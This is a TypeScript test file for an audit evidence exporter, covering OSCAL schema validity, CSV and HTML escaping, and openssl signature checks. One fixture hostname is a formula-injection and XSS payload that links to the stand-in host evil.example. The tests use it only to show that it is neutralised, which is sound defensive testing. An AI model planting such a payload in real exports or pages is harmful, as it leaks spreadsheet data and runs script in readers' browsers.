// The evidence archive as an auditor receives it: OSCAL valid against NIST's schema, CSV and HTML safe
// with hostile device strings, the original envelopes byte for byte, a manifest signed by the collector,
// and everything checkable with openssl.
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { readFile, readdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { Ajv } from 'ajv';
import addFormatsModule from 'ajv-formats';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CSV_COLUMNS } from '../../collector/export/csv.js';
import { ARCHIVE_PATHS, devicePath, envelopePath, type DeviceRecord, type Manifest } from '../../protocol/evidence-archive.js';
import { tempDir } from '../helpers/collector.js';
import { HOSTILE_HOSTNAME, auditFixture, extract, parseCsv, readJson, type AuditFixture } from '../helpers/export.js';

const schema = JSON.parse(readFileSync(new URL('../standards/oscal_complete_schema-1-1-3.json', import.meta.url), 'utf8'));
// The OSCAL schema uses \p{…} classes in its patterns (unicodeRegExp) and formats (date-time, uri).
const ajv = new Ajv({ strict: false, unicodeRegExp: true, allErrors: true });
// ajv-formats is CommonJS: its default export arrives as the module object under NodeNext typing.
const addFormats = ((addFormatsModule as unknown as { default?: typeof addFormatsModule }).default ?? addFormatsModule) as unknown as (a: Ajv) => void;
addFormats(ajv);
const validateOscal = ajv.compile(schema);

let fx: AuditFixture;
let dir: { path: string; cleanup(): Promise<void> };
let cited: string;
let period: string;
let order: string[];
let summary: Awaited<ReturnType<AuditFixture['exportTo']>>;

beforeAll(async () => {
  fx = await auditFixture();
  dir = await tempDir('vigil-export-');
  summary = await fx.exportTo(join(dir.path, 'cited.tar.gz'), 'cited');
  cited = join(dir.path, 'cited');
  order = await extract(join(dir.path, 'cited.tar.gz'), cited);
  await fx.exportTo(join(dir.path, 'period.tar.gz'), 'period');
  period = join(dir.path, 'period');
  await extract(join(dir.path, 'period.tar.gz'), period);
}, 120_000);
afterAll(async () => {
  await fx?.cleanup();
  await dir?.cleanup();
});

const sha256 = (b: Buffer | string) => createHash('sha256').update(b).digest('hex');
const oscalOf = (root: string) => readJson<{ 'assessment-results': Record<string, any> }>(join(root, ARCHIVE_PATHS.oscal));

describe('archive layout', () => {
  it('holds the reports, the envelopes, the device keys, the evidence files and a signed manifest of every file', async () => {
    expect(order[0]).toBe('README.txt');
    expect(order.slice(-3)).toEqual([ARCHIVE_PATHS.signingKey, ARCHIVE_PATHS.manifest, ARCHIVE_PATHS.manifestDsse]);
    for (const p of [ARCHIVE_PATHS.oscal, ARCHIVE_PATHS.csv, ARCHIVE_PATHS.html, ARCHIVE_PATHS.soa, `manual-evidence/${fx.evidenceSha256}`]) expect(order).toContain(p);
    expect(order.filter((p) => p.startsWith('policy/'))).toHaveLength(1);
    const manifest = await readJson<Manifest>(join(cited, ARCHIVE_PATHS.manifest));
    const listed = manifest.files.map((f) => f.path).sort();
    expect(listed).toEqual(order.filter((p) => ![ARCHIVE_PATHS.manifest, ARCHIVE_PATHS.manifestDsse, ARCHIVE_PATHS.signingKey].includes(p as never)).sort());
    for (const f of manifest.files) {
      const bytes = await readFile(join(cited, f.path));
      expect([bytes.length, sha256(bytes)], f.path).toEqual([f.size, f.sha256]);
    }
    expect(manifest.period).toEqual({ from: fx.from, to: fx.to });
    expect(manifest.signingKey.sha256).toBe(summary.fingerprint);
    const log = await fx.env.db.all<{ action: string; subject: string }>("SELECT action, subject FROM audit_log WHERE action = 'export.create'");
    expect(log.map((l) => l.subject)).toContain(summary.exportId);
  });

  it('keeps each envelope byte for byte as the collector received it, beside its device key', async () => {
    const { flaky } = fx.devices;
    const rows = await fx.env.db.all<{ seq: number; bytes: Buffer }>('SELECT seq, bytes FROM envelopes WHERE device_id = ? ORDER BY seq', [flaky.id]);
    for (const r of rows) {
      const file = join(period, envelopePath(flaky.id, r.seq));
      expect(await readFile(file)).toEqual(r.bytes);
    }
    const record = await readJson<DeviceRecord>(join(period, devicePath(flaky.id)));
    expect(record).toMatchObject({ id: flaky.id, keyDigest: flaky.digest, publicKeyPem: flaky.publicKeyPem });
  });

  it('period: every envelope of the period, one unbroken run per device; cited: what the results cite', async () => {
    const list = async (root: string, id: string) => (await readdir(join(root, 'envelopes', id)).catch(() => [])).sort();
    const { steady, flaky, silent } = fx.devices;
    // steady: seq 1 predates the period, 2-5 inside; its results rest on 5 and every check passes.
    expect(await list(period, steady.id)).toEqual([2, 3, 4, 5].map((s) => `${String(s).padStart(12, '0')}.dsse.json`));
    expect(await list(cited, steady.id)).toEqual(['000000000005.dsse.json']);
    // flaky: disk encryption last passed at 2 and first failed at 3 (its run 2-3), USB likewise at 4-5; it rests on 6.
    expect(await list(cited, flaky.id)).toEqual([2, 3, 4, 5, 6].map((s) => `${String(s).padStart(12, '0')}.dsse.json`));
    expect(await list(cited, silent.id)).toEqual([]);
    const manifest = await readJson<Manifest>(join(cited, ARCHIVE_PATHS.manifest));
    expect(manifest.envelopeSelection).toBe('cited');
    expect(manifest.devices.find((d) => d.id === flaky.id)!.runs).toEqual([[2, 6]]);
    expect(manifest.devices.find((d) => d.id === silent.id)!.runs).toEqual([]);
    expect((await readJson<Manifest>(join(period, ARCHIVE_PATHS.manifest))).devices.find((d) => d.id === steady.id)!.runs).toEqual([[2, 5]]);
  });
});

describe('OSCAL assessment results', () => {
  it.each([['cited'], ['period']])('%s export is valid against NIST OSCAL 1.1.3 (complete JSON schema)', async (which) => {
    const doc = await oscalOf(which === 'cited' ? cited : period);
    const ok = validateOscal(doc);
    expect(ok ? [] : validateOscal.errors!.filter((e: { schemaPath: string; instancePath: string }) => !e.schemaPath.startsWith('#/oneOf/0') || e.instancePath !== '').slice(0, 5)).toEqual([]);
    expect(ok).toBe(true);
  });

  it('the schema check can fail: a document with a bad uuid or an un-trimmed property value is refused', async () => {
    const doc = await oscalOf(cited);
    const broken = structuredClone(doc);
    broken['assessment-results'].uuid = 'not-a-uuid';
    expect(validateOscal(broken)).toBe(false);
    const untrimmed = structuredClone(doc);
    untrimmed['assessment-results'].results[0]['local-definitions']['inventory-items'][0].props[0].value = ' padded ';
    expect(validateOscal(untrimmed)).toBe(false);
  });

  it('reviews the Annex A controls with automated evidence the SoA keeps, by OSCAL id', async () => {
    const result = (await oscalOf(cited))['assessment-results'].results[0];
    const ids = result['reviewed-controls']['control-selections'][0]['include-controls'].map((c: { 'control-id': string }) => c['control-id']);
    expect(ids).toEqual(expect.arrayContaining(['a.8.1', 'a.8.24', 'a.8.8', 'a.7.10', 'a.8.20']));
    expect(ids.every((id: string) => /^a\.\d+\.\d+$/.test(id))).toBe(true);
  });

  it('states one finding per control against <control>_obj: satisfied only when every device passes', async () => {
    const result = (await oscalOf(cited))['assessment-results'].results[0];
    const findings = Object.fromEntries(result.findings.map((f: any) => [f.target['target-id'], f]));
    expect(findings['a.8.24_obj'].target.status).toEqual({ state: 'not-satisfied', reason: 'fail' });
    expect(findings['a.8.17_obj'].target.status).toEqual({ state: 'not-satisfied', reason: 'other' }); // silent gateway: unknown
    const observations = new Set(result.observations.map((o: any) => o.uuid));
    for (const f of result.findings) for (const r of f['related-observations'] ?? []) expect(observations.has(r['observation-uuid'])).toBe(true);
  });

  it('carries the waiver as an approved deviation with its expiry, linked from the finding it touches', async () => {
    const result = (await oscalOf(cited))['assessment-results'].results[0];
    const risk = result.risks.find((r: any) => r.props.some((p: any) => p.name === 'waiver-id' && p.value === fx.waiverId));
    expect(risk).toMatchObject({ status: 'deviation-approved', description: 'ultrasound cart exports DICOM to USB; port in a locked bay' });
    expect(risk.deadline).toMatch(/^2026-05-/);
    const f710 = result.findings.find((f: any) => f.target['target-id'] === 'a.7.10_obj');
    expect(f710['related-risks']).toEqual([{ 'risk-uuid': risk.uuid }]);
    const usb = result.observations.find((o: any) => o.props.some((p: any) => p.name === 'waiver-id' && p.value === fx.waiverId));
    expect(usb.props).toEqual(expect.arrayContaining([{ name: 'status', ns: expect.any(String), value: 'waived' }, { name: 'evaluated-status', ns: expect.any(String), value: 'fail' }]));
  });

  it('points every observation at its envelope: a back-matter resource whose rlink and SHA-256 match the file in the archive', async () => {
    const doc = (await oscalOf(cited))['assessment-results'];
    const resources = new Map(doc['back-matter'].resources.map((r: any) => [r.uuid, r]));
    for (const o of doc.results[0].observations) {
      for (const ev of o['relevant-evidence']) {
        const res: any = resources.get(ev.href.slice(1));
        expect(res, ev.href).toBeDefined();
        const link = res.rlinks[0];
        const bytes = await readFile(join(cited, 'oscal', link.href));
        expect(sha256(bytes)).toBe(link.hashes[0].value);
      }
    }
  });

  it('keeps hostile device strings inside OSCAL string rules', async () => {
    const doc = await oscalOf(cited);
    const item = doc['assessment-results'].results[0]['local-definitions']['inventory-items'].find((i: any) => i.props.some((p: any) => p.value === fx.devices.hostile.id));
    const hostname = item.props.find((p: any) => p.name === 'hostname').value;
    expect(hostname).toBe('=HYPERLINK("http://evil.example/"&A1,"x")<script>alert(1)</script> ,"x"');
  });
});

describe('CSV', () => {
  it('has one row per device × check × control with status, first failed, last passed and the envelope cited', async () => {
    const rows = parseCsv(await readFile(join(cited, ARCHIVE_PATHS.csv), 'utf8'));
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    const col = (name: string) => CSV_COLUMNS.indexOf(name as never);
    const data = rows.slice(1);
    const { flaky, silent } = fx.devices;
    const disk = data.find((r) => r[col('device_id')] === flaky.id && r[col('check_id')] === 'disk_encryption' && r[col('control')] === 'A.8.24')!;
    const at = async (seq: number) => (await fx.env.db.get<{ collected_at: string }>('SELECT collected_at FROM envelopes WHERE device_id = ? AND seq = ?', [flaky.id, seq]))!.collected_at;
    expect(disk[col('status')]).toBe('fail');
    expect(disk[col('strength')]).toBe('primary');
    expect(disk[col('first_failed_at')]).toBe(await at(3));
    expect(disk[col('last_passed_at')]).toBe(await at(2));
    expect(disk[col('envelope')]).toBe(envelopePath(flaky.id, 6));
    expect(disk[col('envelope_sha256')]).toBe(sha256(await readFile(join(cited, envelopePath(flaky.id, 6)))));
    expect(disk[col('first_failed_envelope')]).toBe(envelopePath(flaky.id, 3));
    const usb = data.find((r) => r[col('device_id')] === flaky.id && r[col('check_id')] === 'usb_storage' && r[col('control')] === 'A.7.10')!;
    expect([usb[col('status')], usb[col('evaluated_status')], usb[col('waiver_id')]]).toEqual(['waived', 'fail', fx.waiverId]);
    expect(data.filter((r) => r[col('device_id')] === silent.id).every((r) => r[col('status')] === 'unknown' && r[col('evaluated_status')] === 'missing')).toBe(true);
    const perDevice = data.filter((r) => r[col('device_id')] === flaky.id).length;
    expect(perDevice).toBe(data.filter((r) => r[col('device_id')] === fx.devices.steady.id).length);
    expect(new Set(data.map((r) => r[col('status')]))).toEqual(new Set(['pass', 'fail', 'unknown', 'waived']));
  });

  it('escapes hostile hostnames and neutralises spreadsheet formulas', async () => {
    const text = await readFile(join(cited, ARCHIVE_PATHS.csv), 'utf8');
    const rows = parseCsv(text);
    const hostileRows = rows.filter((r) => r[0] === fx.devices.hostile.id);
    expect(hostileRows.length).toBeGreaterThan(0);
    expect(hostileRows.every((r) => r[1] === `'${HOSTILE_HOSTNAME}`)).toBe(true);
    expect(hostileRows.every((r) => r.length === CSV_COLUMNS.length)).toBe(true);
    expect(text).not.toMatch(/(^|,)=HYPERLINK/m);
  });
});

describe('HTML report', () => {
  it('is self-contained and escapes every device string', async () => {
    const html = await readFile(join(cited, ARCHIVE_PATHS.html), 'utf8');
    expect(html).not.toContain('<script>');
    expect(html).toContain('&#60;script&#62;alert(1)&#60;/script&#62;');
    expect(html).not.toMatch(/\b(src|href)=/);
    expect(html).toContain("Content-Security-Policy\" content=\"default-src 'none'; style-src 'unsafe-inline'\"");
  });

  it('gives the summary, per control, per device, exceptions and waivers, policy versions, period and how to verify', async () => {
    const html = await readFile(join(cited, ARCHIVE_PATHS.html), 'utf8');
    for (const heading of ['Summary', 'Per control (automated evidence)', 'Statement of Applicability', 'Per device', 'Exceptions and waivers', 'How to verify this archive']) {
      expect(html).toContain(`<h2>${heading}</h2>`);
    }
    expect(html).toContain(fx.waiverId);
    expect(html).toContain('CISO Dana Reyes');
    expect(html).toContain(`sha256:${summary.fingerprint}`);
    expect(html).toContain(`${fx.from} to ${fx.to}`);
    expect(html).toMatch(/<code>default@sha256:[0-9a-f]{64}<\/code>/);
    expect(html).toMatch(/A\.7\.4<\/td><td>[^<]*<\/td><td>no<\/td>/);
  });
});

describe('independent checks with openssl', () => {
  const openssl = (args: string[]) => execFileSync('openssl', args, { stdio: 'pipe' }).toString().trim();
  const paeOf = (type: string, body: Buffer) => Buffer.concat([Buffer.from(`DSSEv1 ${Buffer.byteLength(type)} ${type} ${body.length} `), body]);

  it('an exported envelope verifies against the device key in the archive', async () => {
    const { flaky } = fx.devices;
    const env = JSON.parse(await readFile(join(cited, envelopePath(flaky.id, 6)), 'utf8'));
    const record = await readJson<DeviceRecord>(join(cited, devicePath(flaky.id)));
    const pub = join(dir.path, 'device.pem');
    await writeFile(pub, record.publicKeyPem);
    await writeFile(join(dir.path, 'pae.bin'), paeOf(env.payloadType, Buffer.from(env.payload, 'base64')));
    await writeFile(join(dir.path, 'sig.der'), Buffer.from(env.signatures[0].sig, 'base64'));
    expect(openssl(['dgst', '-sha256', '-verify', pub, '-signature', join(dir.path, 'sig.der'), join(dir.path, 'pae.bin')])).toBe('Verified OK');
    const digest = openssl(['pkey', '-pubin', '-in', pub, '-outform', 'DER']);
    expect(digest.length).toBeGreaterThan(0);
    const der = execFileSync('openssl', ['pkey', '-pubin', '-in', pub, '-outform', 'DER']);
    expect(sha256(der)).toBe(record.keyDigest);
  });

  it('the manifest signature verifies with the export key, whose fingerprint the manifest and the report name', async () => {
    const dsse = JSON.parse(await readFile(join(cited, ARCHIVE_PATHS.manifestDsse), 'utf8'));
    const manifestBytes = await readFile(join(cited, ARCHIVE_PATHS.manifest));
    expect(Buffer.from(dsse.payload, 'base64')).toEqual(manifestBytes);
    await writeFile(join(dir.path, 'm.pae'), paeOf(dsse.payloadType, manifestBytes));
    await writeFile(join(dir.path, 'm.sig'), Buffer.from(dsse.signatures[0].sig, 'base64'));
    const key = join(cited, ARCHIVE_PATHS.signingKey);
    expect(openssl(['dgst', '-sha256', '-verify', key, '-signature', join(dir.path, 'm.sig'), join(dir.path, 'm.pae')])).toBe('Verified OK');
    expect(sha256(execFileSync('openssl', ['pkey', '-pubin', '-in', key, '-outform', 'DER']))).toBe(summary.fingerprint);
  });
});
